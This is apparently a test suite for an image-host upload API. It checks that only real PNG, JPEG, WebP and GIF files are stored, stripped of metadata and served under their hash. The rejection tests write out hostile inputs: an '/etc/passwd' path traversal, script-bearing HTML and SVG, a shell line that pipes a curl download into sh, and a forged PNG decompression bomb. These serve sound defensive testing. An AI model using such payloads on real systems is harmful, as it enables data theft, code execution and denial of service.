import { createHash } from 'node:crypto';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import {
  buildTestApp,
  databaseKind,
  TEST_IMAGE_KEY,
  uploaderAuth,
  type TestContext,
} from '../../test/helper';
import {
  animatedGif,
  uniformGif,
  withGifComment,
  withJpegComment,
  multipartFile,
} from '../../test/image-fixtures';

/** A multipart/form-data body with one file part. */

const multipart = (field: string, filename: string, type: string, content: Buffer) =>
  multipartFile(content, { field, filename, type });

const picture = (format: 'png' | 'jpeg' | 'webp' | 'gif', width = 40, height = 30) =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 30, b: 30 } } })
    .toFormat(format)
    .toBuffer();

describe(`image host (${databaseKind})`, () => {
  let ctx: TestContext;
  beforeAll(async () => {
    ctx = await buildTestApp();
  });
  afterAll(() => ctx.close());

  /** The names the image host has stored (in its folder on PGlite, its table on PostgreSQL). */
  const storedNames = async () => (await ctx.images.list()).sort();

  /** An upload by a signed-in caller (upload-access.test.ts checks who may upload). */
  const upload = (body: ReturnType<typeof multipart>, key: string | null = TEST_IMAGE_KEY) =>
    ctx.app.inject({
      method: 'POST',
      url: key === null ? '/image-host/1/upload' : `/image-host/1/upload?key=${key}`,
      payload: body.payload,
      headers: { ...body.headers, ...uploaderAuth(ctx.app) },
    });

  it.each([
    ['png', 'image/png', 'png'],
    ['jpeg', 'image/jpeg', 'jpg'],
    ['webp', 'image/webp', 'webp'],
    ['gif', 'image/gif', 'gif'],
  ] as const)(
    'stores a real %s under its hash and serves it for a year',
    async (format, mime, ext) => {
      const bytes = await picture(format);
      const response = await upload(
        multipart('image', 'car.bin', 'application/octet-stream', bytes),
      );
      expect(response.statusCode).toBe(200);
      // Stored re-encoded without metadata: the name is the hash of what is stored.
      const hash = (response.json() as { data: { id: string } }).data.id;
      expect(hash).toMatch(/^[0-9a-f]{64}$/);
      const url = `/image-host/i/${hash}.${ext}`;
      expect(response.json()).toEqual({
        success: true,
        status: 200,
        data: {
          id: hash,
          title: hash,
          url,
          display_url: url,
          width: 40,
          height: 30,
          size: expect.any(Number),
          mime,
          extension: ext,
          time: expect.any(Number),
          expiration: 0,
          // The resized WebP copies (image-variants.test.ts checks them).
          medium: expect.objectContaining({ url: `/image-host/i/${hash}-640.webp` }),
          thumb: expect.objectContaining({ url: `/image-host/i/${hash}-160.webp` }),
        },
      });
      expect(await storedNames()).toContain(`${hash}.${ext}`);

      const served = await ctx.app.inject({ method: 'GET', url });
      expect(served.statusCode).toBe(200);
      expect(served.headers['content-type']).toBe(mime);
      expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
      expect(createHash('sha256').update(served.rawPayload).digest('hex')).toBe(hash);
      expect(response.json().data.size).toBe(served.rawPayload.length);
      expect((await sharp(served.rawPayload).metadata()).format).toBe(format);
      const again = await ctx.app.inject({
        method: 'GET',
        url,
        headers: { 'if-none-match': `"${hash}"` },
      });
      expect(again.statusCode).toBe(304);
    },
  );

  it('answers an unknown or malformed file name with 404', async () => {
    for (const file of [`${'0'.repeat(64)}.png`, '..%2F..%2Fetc%2Fpasswd', 'x.svg']) {
      const response = await ctx.app.inject({ method: 'GET', url: `/image-host/i/${file}` });
      expect(response.statusCode).toBe(404);
      expect(response.json()).toMatchObject({
        success: false,
        status: 404,
        message: 'No such image',
      });
    }
  });

  it('refuses a missing key with 400 and a wrong key with 403, imgbb-style', async () => {
    const stored = await storedNames();
    const body = multipart('image', 'car.png', 'image/png', await picture('png', 41, 41));
    const missing = await upload(body, null);
    expect(missing.statusCode).toBe(400);
    expect(missing.json()).toEqual({
      success: false,
      status: 400,
      status_txt: 'Bad Request',
      message: 'key: an API key is required',
      error: { message: 'key: an API key is required', code: 400 },
    });
    const wrong = await upload(body, 'not-the-key');
    expect(wrong.statusCode).toBe(403);
    expect(wrong.json()).toMatchObject({
      success: false,
      status: 403,
      message: 'key: the API key is not valid',
    });
    expect(await storedNames()).toEqual(stored);
  });

  it.each([
    [
      'a text file renamed .png',
      'notes.png',
      'image/png',
      Buffer.from('just some text, not a picture\n'.repeat(20)),
    ],
    [
      'an HTML page with a script, renamed .png',
      'car.png',
      'image/png',
      Buffer.from(
        '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
      ),
    ],
    [
      'a shell script renamed .png',
      'car.png',
      'image/png',
      Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n'),
    ],
    [
      'a JavaScript file renamed .jpg',
      'car.jpg',
      'image/jpeg',
      Buffer.from('fetch("/api/users").then((r) => r.json()).then(console.log);\n'),
    ],
    [
      'an SVG',
      'logo.svg',
      'image/svg+xml',
      Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
      ),
    ],
  ])('refuses %s with 415', async (_label, name, type, content) => {
    const stored = await storedNames();
    const response = await upload(multipart('image', name, type, content));
    expect(response.statusCode).toBe(415);
    expect(response.json()).toMatchObject({
      success: false,
      status: 415,
      message: 'image: only JPEG, PNG, WebP and GIF images are accepted',
    });
    expect(await storedNames()).toEqual(stored);
  });

  it('refuses a TIFF (a real image, but not one of the four formats) with 415', async () => {
    const response = await upload(
      multipart(
        'image',
        'scan.tiff',
        'image/tiff',
        await picture('png').then((b) => sharp(b).tiff().toBuffer()),
      ),
    );
    expect(response.statusCode).toBe(415);
  });

  it('refuses a truncated PNG with 400', async () => {
    const bytes = await picture('png', 400, 400);
    const response = await upload(
      multipart('image', 'cut.png', 'image/png', bytes.subarray(0, bytes.length - 200)),
    );
    expect(response.statusCode).toBe(400);
    expect(response.json().message).toBe('image: the file is damaged and cannot be read');
  });

  it('refuses a file over 5 MB with 413', async () => {
    const stored = await storedNames();
    const big = Buffer.concat([await picture('png'), Buffer.alloc(5 * 1024 * 1024 + 10)]);
    const response = await upload(multipart('image', 'big.png', 'image/png', big));
    expect(response.statusCode).toBe(413);
    expect(response.json()).toMatchObject({
      success: false,
      status: 413,
      message: 'image: the file is larger than 5 MB',
    });
    expect(await storedNames()).toEqual(stored);
  });

  it.each([20000, 30000])(
    'refuses a picture with too many pixels (a decompression bomb, %i² declared) with 400',
    async (side) => {
      const stored = await storedNames();
      // A tiny PNG whose header claims side × side pixels (30000² is 2.7 GB decoded).
      const bomb = Buffer.from(await picture('png', 1, 1));
      bomb.writeUInt32BE(side, 16);
      bomb.writeUInt32BE(side, 20);
      bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29);
      expect(bomb.length).toBeLessThan(200);
      const response = await upload(multipart('image', 'bomb.png', 'image/png', bomb));
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({
        success: false,
        status: 400,
        message: `image: at most 24 megapixels (this one has ${side ** 2 / 1_000_000} megapixels)`,
      });
      expect(await storedNames()).toEqual(stored);
    },
  );

  it('refuses a real, highly compressible picture over 24 megapixels with 400', async () => {
    const stored = await storedNames();
    // 8000 × 7000 of one colour: a few hundred KB as PNG, 168 MB decoded.
    const big = await sharp({
      create: { width: 8000, height: 7000, channels: 3, background: '#fff' },
      limitInputPixels: false,
    })
      .png({ compressionLevel: 9 })
      .toBuffer();
    expect(big.length).toBeLessThan(1024 * 1024);
    const response = await upload(multipart('image', 'huge.png', 'image/png', big));
    expect(response.statusCode).toBe(400);
    expect(response.json().message).toBe(
      'image: at most 24 megapixels (this one has 56 megapixels)',
    );
    expect(await storedNames()).toEqual(stored);
  });

  it('refuses an animated GIF whose frames together pass the limit (two 4000², 22 KB) with 400', async () => {
    const stored = await storedNames();
    // Each frame is 16 megapixels, under the limit; the two together are 32.
    const gif = uniformGif(4000, 4000, 2);
    expect(gif.length).toBeLessThan(60 * 1024);
    const response = await upload(multipart('image', 'frames.gif', 'image/gif', gif));
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({
      success: false,
      status: 400,
      message: 'image: at most 24 megapixels (this one has 32 megapixels)',
    });
    expect(await storedNames()).toEqual(stored);
  });

  it('answers a multipart body without a boundary, or cut short, with 400 (never 500)', async () => {
    const stored = await storedNames();
    for (const [contentType, payload] of [
      ['multipart/form-data', 'anything'],
      ['multipart/form-data; boundary=zz', '--zz\r\nContent-Disposition: form-data; name="image"'],
    ]) {
      const response = await ctx.app.inject({
        method: 'POST',
        url: `/image-host/1/upload?key=${TEST_IMAGE_KEY}`,
        headers: { 'content-type': contentType, ...uploaderAuth(ctx.app) },
        payload,
      });
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({
        success: false,
        status: 400,
        message: expect.any(String),
      });
    }
    expect(await storedNames()).toEqual(stored);
  });

  it('answers 400 without the field "image" and 415 for a body that is not multipart', async () => {
    const noField = await upload(multipart('photo', 'car.png', 'image/png', await picture('png')));
    expect(noField.statusCode).toBe(400);
    expect(noField.json().message).toBe('image: a file in the field "image" is required');
    const json = await ctx.app.inject({
      method: 'POST',
      url: `/image-host/1/upload?key=${TEST_IMAGE_KEY}`,
      headers: uploaderAuth(ctx.app),
      payload: { image: 'data:image/png;base64,AAAA' },
    });
    expect(json.statusCode).toBe(415);
    expect(json.json()).toMatchObject({ success: false, status: 415 });
  });

  it('stays out of the generated contract', () => {
    const paths = Object.keys((ctx.app.swagger() as { paths: object }).paths);
    expect(paths.some((path) => path.includes('image-host'))).toBe(false);
  });

  it('stores an original without its metadata (GPS, author), turned upright', async () => {
    // A 40×20 JPEG taken "sideways" (orientation 6) by a camera that records where and who.
    const photo = await sharp({
      create: { width: 40, height: 20, channels: 3, background: '#0a0' },
    })
      .jpeg()
      .withExif({
        IFD0: { Artist: 'Sam Seller', Copyright: 'Sam' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1' },
      })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const sent = await sharp(photo).metadata();
    expect(sent.exif?.toString('latin1')).toContain('Sam Seller');
    expect(sent.orientation).toBe(6);

    const response = await upload(multipart('image', 'me.jpg', 'image/jpeg', photo));
    expect(response.statusCode).toBe(200);
    const served = await ctx.app.inject({
      method: 'GET',
      url: (response.json() as { data: { display_url: string } }).data.display_url,
    });
    const kept = await sharp(served.rawPayload).metadata();
    expect(kept.exif).toBeUndefined();
    expect(kept.orientation).toBeUndefined();
    expect(served.rawPayload.toString('latin1')).not.toContain('Sam Seller');
    expect([kept.width, kept.height]).toEqual([20, 40]);
    expect(response.json().data).toMatchObject({ width: 20, height: 40 });
  });

  it('keeps the frames of an animated GIF and drops its comment', async () => {
    // Three 8×8 frames, each of its own colour, and a comment saying where.
    const three = withGifComment(await animatedGif(['#f00', '#0f0', '#00f']), 'home: 51.5N 0.1W');
    expect((await sharp(three, { animated: true }).metadata()).pages).toBe(3);
    const response = await upload(multipart('image', 'spin.gif', 'image/gif', three));
    expect(response.statusCode).toBe(200);
    const served = await ctx.app.inject({
      method: 'GET',
      url: (response.json() as { data: { display_url: string } }).data.display_url,
    });
    expect((await sharp(served.rawPayload, { animated: true }).metadata()).pages).toBe(3);
    expect(served.rawPayload.toString('latin1')).not.toContain('51.5N');
  });

  it('drops a JPEG’s comment, and stores the same photo sent twice once', async () => {
    const photo = withJpegComment(await picture('jpeg'), 'Sam Seller, 12 Elm St');
    const first = await upload(multipart('image', 'car.jpg', 'image/jpeg', photo));
    const again = await upload(multipart('image', 'car.jpg', 'image/jpeg', photo));
    const url = (first.json() as { data: { display_url: string } }).data.display_url;
    expect(again.json().data.display_url).toBe(url);
    const served = await ctx.app.inject({ method: 'GET', url });
    expect(served.rawPayload.toString('latin1')).not.toContain('Sam Seller');
  });
});
